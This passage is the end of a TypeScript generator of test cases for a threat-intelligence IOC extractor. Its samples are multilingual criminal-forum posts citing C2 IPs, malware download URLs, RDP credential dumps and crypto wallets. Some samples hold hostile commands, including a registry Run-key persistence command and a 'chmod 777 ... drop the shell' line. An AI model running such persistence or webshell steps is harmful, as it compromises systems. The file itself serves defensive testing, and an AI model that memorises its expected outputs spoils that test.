  { note: 'fake onion (bad checksum)', text: `new mirror ${onionV3('fake').replace(/^./, (c) => (c === 'a' ? 'b' : 'a'))} (scam!)`, expected: {} },
  { note: 'url with credentials and port', text: 'ftp://anon:pass@files-ftp.net:2121/pub/tools.rar', expected: { url: ['ftp://anon:pass@files-ftp.net:2121/pub/tools.rar'], domain: ['files-ftp.net'] } },
  { note: 'cve unicode hyphen', text: 'patched CVE‑2023‑4966 (Citrix Bleed)', expected: { cve: ['CVE-2023-4966'] } },
  { note: 'numbers and prices', text: 'price 1.500.000 RUB, 0.05 BTC, 3.5GB of logs, 2.0 release', expected: {} },
  { note: 'semver and python versions', text: 'requires python 3.11.4 and node 20.11.1, lib 1.2.3', expected: {} },
];
cases.push(...traps);

// Harder realistic posts, written after the extractor existed and kept as written, pass or fail.
const hard: Case[] = [
  { text: 'Логи: hxxps://t[.]me/+AbCdEf12345 и hxxp://185[.]220[.]101[.]34/panel', expected: { telegram: ['t.me/+AbCdEf12345'], url: ['http://185.220.101.34/panel'], ipv4: ['185.220.101.34'] } },
  { text: 'Beacon config dump:\n```\nC2: 193.42.33.14:443\nUA: Mozilla/5.0 (Windows NT 10.0)\nsleep: 60000\n```', expected: { ipv4: ['193.42.33.14'] } },
  { text: 'resolver set to 8.8.8.8 (google dns) so ignore that one', expected: { ipv4: ['8.8.8.8'] } },
  { text: 'send logs to drop+logs@onionmail.org', expected: { email: ['drop+logs@onionmail.org'] } },
  { text: 'open redirect: https://redirect-svc.com/r?u=http://evil-land.net/x', expected: { url: ['https://redirect-svc.com/r?u=http://evil-land.net/x', 'http://evil-land.net/x'], domain: ['redirect-svc.com', 'evil-land.net'] } },
  { text: 'login page hxxps://www[.]evil-shop[.]com:8443/login', expected: { url: ['https://www.evil-shop.com:8443/login'], domain: ['www.evil-shop.com'] } },
  { text: '下载地址：hxxp://45.142.212[.]61:8080/a.exe，密码123', expected: { url: ['http://45.142.212.61:8080/a.exe'], ipv4: ['45.142.212.61'] } },
  { text: '影响CVE-2024-3400和CVE-2023-4966两个漏洞', expected: { cve: ['CVE-2024-3400', 'CVE-2023-4966'] } },
  { text: 'Hash (SHA-256): E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855', expected: { sha256: ['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'] } },
  { text: 'ssdeep: 96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmAl1I5sO/we', expected: { ssdeep: ['96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmAl1I5sO/we'] } },
  { text: 'Reply-To: Support Team <admin@bp-host.biz>', expected: { email: ['admin@bp-host.biz'] } },
  { text: 'visit www.secure-bank-login.com.evil-phish.ru/auth before it gets burned', expected: { domain: ['www.secure-bank-login.com.evil-phish.ru'] } },
  { text: 'Скачать: mega[.]nz/file/AbC#key', expected: { domain: ['mega.nz'] } },
  { text: '[code]reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\Users\\Public\\upd.exe[/code]', expected: { 'registry-key': ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'], filepath: ['C:\\Users\\Public\\upd.exe'] } },
  { text: 'пиши @vasya_support, отвечаю быстро', expected: { telegram: ['@vasya_support'] } },
  { text: 'Jabber - darkseller@exploit.im, почта - seller@protonmail.com', expected: { xmpp: ['darkseller@exploit.im'], email: ['seller@protonmail.com'] } },
  { text: 'Telegram: @shop_logs_bot | backup mail: backup@cock.li', expected: { telegram: ['@shop_logs_bot'], email: ['backup@cock.li'] } },
  { text: `hidden service on http://${onionV3('hard-port')}:8080/ now`, expected: { url: [`http://${onionV3('hard-port')}:8080/`], onion: [onionV3('hard-port')] } },
  { text: '我的服务器IP是91.215.85.17。', expected: { ipv4: ['91.215.85.17'] } },
  { text: 'look (at) this, it works (dot) nice', expected: {} },
  { text: 'BLOCK EVIL-DOMAIN.RU AND 62.233.50.245 NOW', expected: { domain: ['evil-domain.ru'], ipv4: ['62.233.50.245'] } },
  { text: 'paid to https://www.blockchain.com/btc/address/1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', expected: { url: ['https://www.blockchain.com/btc/address/1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'], domain: ['www.blockchain.com'], btc: ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'] } },
  { text: `VT: https://www.virustotal.com/gui/file/${hash('sha256', 'vt-link')}/detection`, expected: { url: [`https://www.virustotal.com/gui/file/${hash('sha256', 'vt-link')}/detection`], domain: ['www.virustotal.com'], sha256: [hash('sha256', 'vt-link')] } },
  { text: 'mapped to https://attack.mitre.org/techniques/T1059/001/ in the report', expected: { url: ['https://attack.mitre.org/techniques/T1059/001/'], domain: ['attack.mitre.org'], 'attack-technique': ['T1059'] } },
  { text: 'then chmod 777 /var/www/html/uploads/ and drop the shell', expected: { filepath: ['/var/www/html/uploads/'] } },
  { text: 'contact: admin[@]evil-corp[.]biz', expected: { email: ['admin@evil-corp.biz'] } },
  { text: 'Новый домен «evil-site.ru», старый 【old-evil.cn】', expected: { domain: ['evil-site.ru', 'old-evil.cn'] } },
  { text: 'Selling 0day in Fortinet VPN (similar to CVE-2024-21762), PoC on request, price 15k USD in XMR', expected: { cve: ['CVE-2024-21762'] } },
  { text: 'C:\\Program Files\\Common Files\\System\\svchost.exe is where it hides', expected: { filepath: ['C:\\Program Files\\Common Files\\System\\svchost.exe'] } },
  { text: 'Продаю доступ в сеть, тг @Access_Broker_RU, жабер: broker@xmpp.is', expected: { telegram: ['@access_broker_ru'], xmpp: ['broker@xmpp.is'] } },
  { text: 'пиши в телегу @logs_cloud_bot', expected: { telegram: ['@logs_cloud_bot'] } },
  { text: 'IOC list: 103.79.77[.]134, 141.98.10[.]63; domains: login-check(.)top, verify-acc(.)xyz', expected: { ipv4: ['103.79.77.134', '141.98.10.63'], domain: ['login-check.top', 'verify-acc.xyz'] } },
];
cases.push(...hard);

// Blind set: written after the extractor was finished, scored once, kept as written (failures stay).
const blind: Case[] = [
  { text: 'Новый лоадер: hxxps://files-cdn[.]top/l.exe , бэкап на mega(.)nz/folder/abc', expected: { url: ['https://files-cdn.top/l.exe'], domain: ['files-cdn.top', 'mega.nz'] } },
  { text: 'IOCs from the IR: 5[.]188[.]206[.]210, 194.26.29[.]113 and the C2 domain update-check[.]info (port 8443)', expected: { ipv4: ['5.188.206.210', '194.26.29.113'], domain: ['update-check.info'] } },
  { text: '兄弟们，新的C2是103.79.77.134:443，备用域名cdn-mirror.xyz，样本MD5：9e107d9d372bb6826bd81d3542a419d6', expected: { ipv4: ['103.79.77.134'], domain: ['cdn-mirror.xyz'], md5: ['9e107d9d372bb6826bd81d3542a419d6'] } },
  { text: 'Sell RDP 500 pcs, checker output:\n```\n45.142.212.61:3389 admin:P@ssw0rd\n141.98.10.63:3389 user:qwerty\n```', expected: { ipv4: ['45.142.212.61', '141.98.10.63'] } },
  { text: 'Wallets: BTC BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4 ETH 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359', expected: { btc: ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'], eth: ['0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359'] } },
  { text: 'Jabber: phantom@jabber.calyxinstitute.org / Tox: none / tg @phantom_sup', expected: { xmpp: ['phantom@jabber.calyxinstitute.org'], telegram: ['@phantom_sup'] } },
  { text: 'see attack.mitre.org/techniques/T1003/001 for LSASS dumping (T1003.001)', expected: { domain: ['attack.mitre.org'], 'attack-technique': ['T1003'], 'attack-subtechnique': ['T1003.001'] } },
  { text: 'Дамп: C:\\Users\\Администратор\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk', expected: { filepath: ['C:\\Users\\Администратор\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk'] } },
  { text: 'Persistence: HKCU\\Environment\\UserInitMprLogonScript = C:\\ProgramData\\x.bat', expected: { 'registry-key': ['HKEY_CURRENT_USER\\Environment\\UserInitMprLogonScript'], filepath: ['C:\\ProgramData\\x.bat'] } },
  { text: '[url=hxxp://185.220.101.34:8080/panel]Панель[/url] [b]login: admin[/b]', expected: { url: ['http://185.220.101.34:8080/panel'], ipv4: ['185.220.101.34'] } },
  { text: 'Продаю шелл на 146.70.113.4/24? нет, только один IP.', expected: { ipv4: ['146.70.113.4/24'] } },
  { text: 'ssdeep 3072:Hv2cTsyfQJ4oM+4Q3hAWQ2x9m5Ij8Yk4AQRqs7o6UW:Hv2gfQJ4dQ3hAWQ2n5Ijm4AQRqs7o6UW', expected: { ssdeep: ['3072:Hv2cTsyfQJ4oM+4Q3hAWQ2x9m5Ij8Yk4AQRqs7o6UW:Hv2gfQJ4dQ3hAWQ2n5Ijm4AQRqs7o6UW'] } },
  { text: 'Tor: http://abcdefghijklmnop.onion/ (old v2 link, dead)', expected: { url: ['http://abcdefghijklmnop.onion/'], onion: ['abcdefghijklmnop.onion'] } },
  { text: 'наш сайт — магазин-логов.рф, зеркало shop-logs[.]su', expected: { domain: [domainToASCII('магазин-логов.рф'), 'shop-logs.su'] } },
  { text: 'dns: 1.1.1.1 / 8.8.4.4, proxy 10.8.0.1:1080', expected: { ipv4: ['1.1.1.1', '8.8.4.4', '10.8.0.1'] } },
  { text: 'The kit abuses CVE-2017-0199 and CVE-2017-11882 (both CWE-20), see MS17-010 too', expected: { cve: ['CVE-2017-0199', 'CVE-2017-11882'], cwe: ['CWE-20'] } },
  { text: 'IPv6 C2: 2a03:b0c0:3:d0::1a2b:c001 и 2001:db8::bad:cafe', expected: { ipv6: ['2a03:b0c0:3:d0::1a2b:c001', '2001:db8::bad:cafe'] } },
  { text: 'mac list: 3C-52-82-AA-BB-CC,3c:52:82:aa:bb:cd', expected: { mac: ['3c:52:82:aa:bb:cc', '3c:52:82:aa:bb:cd'] } },
  { text: 'ASN: AS 12389 (Rostelecom)', expected: { asn: ['AS12389'] } },
  { text: `pay to LTC ${segwit('ltc', 0, 'blind-ltc')} or DOGE ${base58Address([0x1e], 'blind-doge')}`, expected: { ltc: [segwit('ltc', 0, 'blind-ltc')], doge: [base58Address([0x1e], 'blind-doge')] } },
  { text: 'Discord: discordapp.com/invite/hackforums', expected: { discord: ['discord.gg/hackforums'] } },
  { text: 'session id: 05d871fc80ca007eed9b2f4df72853e2a2d5465a92fcb1889fb5c84aa2833b3b40', expected: { session: ['05d871fc80ca007eed9b2f4df72853e2a2d5465a92fcb1889fb5c84aa2833b3b40'] } },
  { text: 'файлы: passwords.txt, cookies.sqlite, wallet.dat, Login Data', expected: { filename: ['passwords.txt', 'cookies.sqlite', 'wallet.dat'] } },
  { text: 'CVE 2021 44228 (log4shell) still pays', expected: { cve: ['CVE-2021-44228'] } },
  { text: 'Ссылка на слив: https://anonfiles.com/abc123/db_dump_7z, пароль в лс', expected: { url: ['https://anonfiles.com/abc123/db_dump_7z'], domain: ['anonfiles.com'] } },
];
cases.push(...blind.map((c) => ({ ...c, note: 'blind' })));

for (const c of cases) process.stdout.write(`${JSON.stringify(c.exhaustive === false ? { text: c.text, expected: c.expected, exhaustive: false, note: c.note } : c.note === undefined ? { text: c.text, expected: c.expected } : { text: c.text, expected: c.expected, note: c.note })}\n`);
process.stderr.write(`${cases.length} cases\n`);
